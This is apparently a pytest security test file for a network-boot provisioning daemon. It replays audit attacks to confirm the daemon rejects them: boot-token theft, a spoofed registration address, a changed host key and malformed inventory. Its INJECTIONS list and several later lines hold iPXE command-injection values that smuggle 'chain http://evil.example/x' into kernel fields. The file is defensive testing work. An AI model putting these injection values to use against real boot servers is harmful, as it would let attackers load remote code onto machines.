"""Trust on the wire (issue 11): the audit's attacks, replayed against the real daemon.

The daemon serves DHCP, DNS and HTTP in a Lab namespace. The machine is a
client namespace that boots the legitimate way — a PXE ROM's DHCP exchange
(busybox udhcpc with the PXEClient vendor class), then the boot script from
the leased address. The attacker is another namespace on the same bridge
with its own address, using curl like the audit did.
"""

from __future__ import annotations

import json
import re
import shutil

import pytest

from tests.daemonlab import HOSTKEY, LabDaemon, lab_config
from tests.netlab import Lab

pytestmark = pytest.mark.interop
MAC = "52:54:00:77:00:01"
ATTACKER_MAC = "52:54:00:77:00:66"
OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHZ1dGhlaXJzLWtleS1pcy1ub3Qtb3Vycy0wMDAwMDAw evil"
TOKEN_RE = re.compile(r"provisiond\.token=(\S+)")


def _needs(*programs: str) -> None:
    for p in programs:
        if not shutil.which(p):
            pytest.skip(reason=f"needs {p} (make test installs it with apt-get)")


@pytest.fixture
def wire(tmp_path):
    _needs("curl", "busybox")
    with Lab("wire") as lab:
        d = LabDaemon(lab, tmp_path, lab_config(lab, tmp_path / "state"))
        d.cli("init")
        d.add_fake_kernel()
        d.start()
        try:
            machine = lab.add_client(mac=MAC, address=f"{lab.net}.50")
            attacker = lab.add_client(mac=ATTACKER_MAC, address=f"{lab.net}.66")
            yield lab, d, machine, attacker
        finally:
            d.stop()


def _agent(d: LabDaemon, client, path: str, token: str, body: dict | None = None):
    method = "POST" if body is not None or path.endswith("heartbeat") else "GET"
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    return d.http(client, path, method, json.dumps(body) if body is not None else None, headers)


def _register_body(ip: str, hostkey: str = HOSTKEY) -> dict:
    return {"mac": MAC, "ip": ip, "hostkey": hostkey,
            "inventory": {"cpu": {"count": 1}, "nics": [{"mac": MAC}]}}  # fmt: skip


def test_no_token_for_anyone_but_the_booting_machine(wire):
    lab, d, machine, attacker = wire
    # before any boot: the script to a stranger carries no token, and creates nothing
    code, text = d.boot_script(attacker, MAC)
    assert code == 403 and not TOKEN_RE.search(text), text
    assert "has not seen this MAC boot" in text
    assert d.cli_json("resource", "list") == []

    # the machine boots: DHCP, then its script from the leased address -> a token, once
    leased = d.dhcp_boot(machine)
    code, text = d.boot_script(machine, MAC, source=leased)
    assert code == 200, text
    token = TOKEN_RE.search(text).group(1)
    code, text = _agent(d, machine, "/agent/v1/register", token, _register_body(f"{lab.net}.50"))
    assert code == 200, text
    assert _agent(d, machine, "/agent/v1/heartbeat", token)[0] == 204

    # the attacker asks for the same MAC's script: no token, the live token is untouched
    code, text = d.boot_script(attacker, MAC)
    assert code == 403 and not TOKEN_RE.search(text), text
    assert "this boot belongs to" in text
    # even from the machine's own address a second script of this boot carries no token
    code, text = d.boot_script(machine, MAC, source=leased)
    assert code == 403 and not TOKEN_RE.search(text), text
    assert "already issued" in text
    assert _agent(d, machine, "/agent/v1/heartbeat", token)[0] == 204
    res = d.cli_json("resource", "show", MAC)
    assert res["state"] == "idle"


def test_registered_ip_is_the_source_address(wire):
    lab, d, machine, _attacker = wire
    token = d.boot_token(machine, MAC)
    # the agent claims the server's own address: the request's source wins
    code, text = _agent(d, machine, "/agent/v1/register", token, _register_body(lab.server_ip))
    assert code == 200, text
    res = d.cli_json("resource", "show", MAC)
    assert res["ip"] == f"{lab.net}.50", res
    dns = machine.run(["busybox", "nslookup", f"{res['name']}.lab.test", lab.server_ip],
                      check=False)  # fmt: skip
    answers = re.findall(r"Address:\s*(\S+)", dns.stdout.split("Name:")[-1])
    assert answers and lab.server_ip not in answers, dns.stdout  # DNS does not follow the claim


def test_changed_host_key_holds_the_resource_until_accept_key(wire):
    lab, d, machine, _attacker = wire
    token = d.boot_token(machine, MAC)
    body = _register_body(f"{lab.net}.50")
    assert _agent(d, machine, "/agent/v1/register", token, body)[0] == 200
    pinned = d.cli_json("resource", "show", MAC)["hostkey_fingerprint"]

    # the same boot registers again with another key: not accepted silently
    other = _register_body(f"{lab.net}.50", OTHER_KEY)
    code, text = _agent(d, machine, "/agent/v1/register", token, other)
    assert code == 200, text
    res = d.cli_json("resource", "show", MAC)
    assert res["state"] == "key-changed", res
    assert res["hostkey_fingerprint"] == pinned
    assert "accept-key" in res["state_reason"]
    events = d.cli("event", "list").stdout
    assert "resource.key-changed" in events, events
    # nothing connects to it: run and login refuse before any SSH
    for cmd in (["run", MAC, "--", "true"], ["login", MAC]):
        out = d.cli(*cmd, check=False)
        assert out.returncode == 1 and "accept-key" in out.stderr, out
    # the agent keeps its token (heartbeats), but the machine is not assignable
    assert _agent(d, machine, "/agent/v1/heartbeat", token)[0] == 204

    out = d.cli("resource", "accept-key", MAC).stdout
    assert "accepted" in out
    res = d.cli_json("resource", "show", MAC)
    assert res["state"] == "idle" and res["hostkey_fingerprint"] != pinned
    assert "resource.key-accepted" in d.cli("event", "list").stdout
    assert d.cli("resource", "accept-key", MAC, check=False).returncode == 1


def _api_token(d: LabDaemon) -> str:
    """An admin API token (test setup through the core, as the CLI's init would)."""
    from sqlalchemy import select

    from provisiond import users
    from provisiond.db import Database
    from provisiond.model import User

    db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
    with db.transaction() as s:
        admin = s.scalars(select(User).where(User.name == "admin")).one()
        _tok, secret = users.create_token(s, admin, "wire-test", "test")
    db.dispose()
    return secret


INJECTIONS = [
    ("cmdline", "quiet ; chain http://evil.example/x"),
    ("cmdline", "quiet\nchain http://evil.example/x"),
    ("cmdline", "quiet && chain http://evil.example/x"),
    ("cmdline", "quiet || chain http://evil.example/x"),
    ("cmdline", "quiet #chain"),
    ("kernel_path", "kernels/x/vmlinuz\nchain http://evil.example/x"),
    ("name", "evil\nchain"),
]


def test_ipxe_injection_refused_at_input_and_at_render(wire):
    _lab, d, machine, attacker = wire
    token = _api_token(d)
    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    for field, value in INJECTIONS:
        body = {"name": "evil", "kernel_path": "kernels/fake/vmlinuz", field: value}
        code, text = d.http(attacker, "/api/v1/kernels", "POST", json.dumps(body), auth)
        assert code == 400, (field, value, text)
        assert json.loads(text).get("field") == field, text
    # PATCH of the default kernel: the same rule
    patch = json.dumps({"cmdline": "x ; chain http://evil.example/"})
    code, text = d.http(attacker, "/api/v1/kernels/fake", "PATCH", patch, auth)
    assert code == 400 and json.loads(text)["field"] == "cmdline", text
    # the CLI refuses it too, naming the field
    k = d.workdir / "fake-vmlinuz"
    out = d.cli("kernel", "add", "evil", "--kernel", str(k), "--cmdline", "a ; chain http://e/",
                check=False)  # fmt: skip
    assert out.returncode == 1 and "cmdline" in out.stderr, out
    assert [x["name"] for x in d.cli_json("kernel", "list")] == ["fake"]

    # a row written behind the API's back (an older version, a hand edit): refused at render
    from provisiond.db import Database
    from provisiond.model import Kernel

    db = Database(f"sqlite:///{next((d.workdir / 'state').glob('*.db'))}")
    with db.transaction() as s:
        from sqlalchemy import update

        s.execute(update(Kernel).values(cmdline="quiet || chain http://evil.example/x"))
    db.dispose()
    d.stop()  # a fresh start loads the edited row into the inventory snapshot
    d.start()
    leased = d.dhcp_boot(machine)
    code, text = d.boot_script(machine, MAC, source=leased)
    assert code == 500 and "chain http://evil" not in text.split("refusing")[0], text
    assert "'||'" in text, text


def test_unauthenticated_input_neither_breaks_pages_nor_fills_the_database(wire):
    lab, d, machine, attacker = wire
    # 200 boot-script requests for random MACs, as the audit sent: no resource created
    macs = [f"52:54:01:{i // 65536:02x}:{i // 256 % 256:02x}:{i % 256:02x}" for i in range(200)]
    urls = [a for m in macs for a in ("-o", "/dev/null", f"{d.base}/boot/{m}.ipxe")]
    out = attacker.run(["curl", "-s", "-w", "%{http_code}\n", *urls], timeout=120).stdout.split()
    assert out == ["403"] * 200, out[:5]
    assert d.cli_json("resource", "list") == []

    # a registration with a string where a number belongs: 400 naming the field, nothing kept
    token = d.boot_token(machine, MAC)
    bad = [
        ("inventory.memory_bytes", {"memory_bytes": "<string>"}),
        ("inventory.cpu.count", {"cpu": {"count": "many"}}),
        ("inventory.disks", {"disks": [{"name": f"d{i}"} for i in range(5000)]}),
        ("inventory.dmi.vendor", {"dmi": {"vendor": "x" * 5000}}),
        ("inventory.nics[0].mac", {"nics": [{"mac": 7}]}),
    ]
    for field, inventory in bad:
        body = {**_register_body(f"{lab.net}.50"), "inventory": inventory}
        code, text = _agent(d, machine, "/agent/v1/register", token, body)
        assert code == 400, (field, text[:300])
        assert json.loads(text)["field"] == field, text[:300]
    res = d.cli_json("resource", "show", MAC)
    assert res["state"] == "new" and res["inventory"] == {}, res
    # every page that lists resources still answers
    api = {"Authorization": f"Bearer {_api_token(d)}"}
    for path in ("/api/v1/resources", f"/api/v1/resources/{MAC}"):
        code, text = d.http(attacker, path, headers=api)
        assert code == 200, (path, text[:300])
    # a good registration is stored as the schema's shape
    code, text = _agent(d, machine, "/agent/v1/register", token, _register_body(f"{lab.net}.50"))
    assert code == 200, text
    inv = d.cli_json("resource", "show", MAC)["inventory"]
    assert inv["cpu"]["count"] == 1 and inv["nics"][0]["mac"] == MAC
